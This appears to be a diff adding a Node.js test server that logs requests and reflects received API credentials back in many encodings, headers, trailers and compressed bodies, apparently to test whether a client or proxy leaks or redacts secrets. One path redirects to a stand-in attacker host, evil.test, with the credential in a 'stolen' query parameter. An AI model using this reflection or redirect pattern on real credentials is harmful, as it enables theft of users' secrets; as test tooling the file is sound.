@@ -1,0 +1,197 @@
+// origin - a real HTTPS server (HTTP/1.1 and HTTP/2) that says in one line of JSON what each request was.
+//
+// usage:  node origin.mjs CERT KEY [PORT]      first line out: {"port": N}
+//
+// What it does with a request is said by the path: see `paths`. It runs in tests only, on loopback; what it prints
+// has the credentials that it was sent, because the test wants to know whether they arrived.
+import { createHash } from "node:crypto";
+import { spawnSync } from "node:child_process";
+import { readFileSync } from "node:fs";
+import { createSecureServer } from "node:http2";
+import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
+
+const [, , cert, key, port] = process.argv;
+const places = ["authorization", "x-api-key", "x-goog-api-key", "x-secret", "private-token"];
+
+const say = (what) => process.stdout.write(JSON.stringify(what) + "\n");
+
+// The credential itself, without its scheme: what a server could reflect.
+function credential(headers) {
+  for (const name of places) {
+    const value = headers[name];
+    if (value === undefined) continue;
+    const [scheme, rest] = value.split(" ", 2);
+    if (/^basic$/i.test(scheme)) return Buffer.from(rest ?? "", "base64").toString().replace(/^[^:]*:/, "");
+    return rest ?? scheme;
+  }
+  return "";
+}
+
+const each = (text, f) => [...Buffer.from(text)].map(f).join("");
+const hex = (byte) => byte.toString(16).padStart(2, "0");
+const spoken = {
+  plain: (v) => `value=${v};`,
+  base64: (v) => Buffer.from(v).toString("base64"),
+  base64a: (v) => Buffer.from("u:" + v + "!").toString("base64"),
+  base64b: (v) => Buffer.from("x" + v + "yz").toString("base64"),
+  base64url: (v) => Buffer.from("??>" + v).toString("base64url"),
+  hex: (v) => Buffer.from(v).toString("hex"),
+  HEX: (v) => Buffer.from(v).toString("hex").toUpperCase(),
+  percent: (v) => each(v, (b) => "%" + hex(b)),
+  percentsome: (v) => each(v, (b, i) => (i % 2 ? "%" + hex(b).toUpperCase() : String.fromCharCode(b))),
+  json: (v) => `"${each(v, (b) => "\\u00" + hex(b))}"`,
+  html: (v) => each(v, (b) => `&#${b};`),
+  htmlhex: (v) => each(v, (b) => `&#x${hex(b)};`),
+  utf16: (v) => Buffer.from(v, "utf16le"),
+  twice: (v) => v + v,
+};
+
+function packed(coding, bytes) {
+  if (coding === "gzip") return gzipSync(bytes);
+  if (coding === "deflate") return deflateSync(bytes);
+  if (coding === "br") return brotliCompressSync(bytes);
+  return spawnSync("zstd", ["-q", "-c"], { input: bytes }).stdout;
+}
+
+function reflect(req, res, how) {
+  const value = credential(req.headers);
+  const around = Buffer.concat([Buffer.from("<before>"), Buffer.from((spoken[how] ?? spoken.plain)(value)), Buffer.from("<after>")]);
+  if (how === "header") {
+    res.writeHead(200, { "x-echo": value, "set-cookie": `k=${value}` });
+    return res.end("in the head");
+  }
+  if (how === "trailer") {
+    res.writeHead(200, { trailer: "x-echo" });
+    res.write("in the trailer");
+    res.addTrailers({ "x-echo": value });
+    return res.end();
+  }
+  if (how === "split") {
+    res.writeHead(200);
+    const bytes = [...around];
+    const next = () => (bytes.length ? (res.write(Buffer.from([bytes.shift()])), setTimeout(next, 2)) : res.end());
+    return next();
+  }
+  if (["gzip", "deflate", "br", "zstd"].includes(how)) {
+    res.writeHead(200, { "content-encoding": how });
+    return res.end(packed(how, around));
+  }
+  if (how === "redirect") {
+    res.writeHead(302, { location: `https://evil.test/?stolen=${encodeURIComponent(value)}` });
+    return res.end();
+  }
+  res.writeHead(200, { "content-length": around.length });
+  return res.end(around);
+}
+
+function download(res, n) {
+  const block = Buffer.alloc(65536, 0x61);
+  res.writeHead(200, { "content-length": n });
+  let left = n;
+  const more = () => {
+    while (left > 0) {
+      const piece = left >= block.length ? block : block.subarray(0, left);
+      left -= piece.length;
+      if (!res.write(piece)) return res.once("drain", more);
+    }
+    res.end();
+  };
+  more();
+}
+
+function sse(res, n, ms) {
+  res.writeHead(200, { "content-type": "text/event-stream" });
+  let at = 0;
+  const text = "data: tick\n\n";
+  const timer = setInterval(() => {
+    if (at >= n) {
+      clearInterval(timer);
+      return res.end();
+    }
+    res.write(text[at++ % text.length]);
+  }, ms);
+  res.on("close", () => clearInterval(timer));
+}
+
+// Gives back each piece as it comes, then trailers: what a bidirectional stream of gRPC does.
+function echo(req, res) {
+  res.writeHead(200, { "content-type": req.headers["content-type"] ?? "application/octet-stream", trailer: "grpc-status" });
+  req.on("data", (piece) => res.write(piece));
+  req.on("end", () => {
+    res.addTrailers({ "grpc-status": "0" });
+    res.end();
+  });
+}
+
+function answer(req, res, url, body) {
+  const [, first, second] = url.pathname.split("/");
+  const n = Number(url.searchParams.get("n") ?? 10);
+  if (first === "reflect") return reflect(req, res, second);
+  if (first === "download") return download(res, n);
+  if (first === "sse") return sse(res, n, Number(url.searchParams.get("ms") ?? 1000));
+  if (first === "redirect") {
+    res.writeHead(302, { location: url.searchParams.get("to") });
+    return res.end();
+  }
+  if (first === "status") {
+    res.writeHead(Number(second));
+    return res.end();
+  }
+  res.writeHead(200, { "content-type": "application/json" });
+  return res.end(JSON.stringify({ ok: true, method: req.method, path: req.url, length: body.length, sha256: body.sha256 }) + "\n");
+}
+
+function record(req, body) {
+  const pairs = [];
+  for (let i = 0; i < req.rawHeaders.length; i += 2) pairs.push([req.rawHeaders[i].toLowerCase(), req.rawHeaders[i + 1]]);
+  say({
+    version: req.httpVersion, method: req.method, path: req.url, host: req.headers.host ?? req.headers[":authority"],
+    headers: pairs, trailers: req.trailers, length: body?.length ?? 0, sha256: body?.sha256 ?? "", connection: req.socket?.remotePort ?? 0,
+  });
+}
+
+function onRequest(req, res) {
+  const url = new URL(req.url, "https://here.test");
+  const hash = createHash("sha256");
+  let length = 0;
+  res.on("error", () => {});
+  req.on("error", () => {});
+  if (url.pathname === "/echo") {
+    record(req);
+    return echo(req, res);
+  }
+  req.on("data", (piece) => {
+    hash.update(piece);
+    length += piece.length;
+  });
+  return req.on("end", () => {
+    const body = { length, sha256: hash.digest("hex") };
+    record(req, body);
+    answer(req, res, url, body);
+  });
+}
+
+// A websocket that gives back what it gets: frames of up to 125 bytes.
+function onUpgrade(req, socket) {
+  const accept = createHash("sha1").update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
+  record(req);
+  socket.on("error", () => {});
+  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
+  let had = Buffer.alloc(0);
+  socket.on("data", (piece) => {
+    had = Buffer.concat([had, piece]);
+    while (had.length >= 6 && had.length >= 6 + (had[1] & 127)) {
+      const n = had[1] & 127;
+      const text = Buffer.from(had.subarray(6, 6 + n).map((b, i) => b ^ had[2 + (i % 4)]));
+      socket.write(Buffer.concat([Buffer.from([had[0], n]), text]));
+      had = had.subarray(6 + n);
+    }
+  });
+}
+
+const server = createSecureServer({ cert: readFileSync(cert), key: readFileSync(key), allowHTTP1: true, settings: { enableConnectProtocol: false } });
+server.on("request", onRequest);
+server.on("upgrade", onUpgrade);
+server.on("sessionError", () => {});
+server.on("tlsClientError", (error) => say({ tls: error.code ?? String(error) }));
+server.listen(Number(port ?? 0), "127.0.0.1", () => say({ port: server.address().port }));
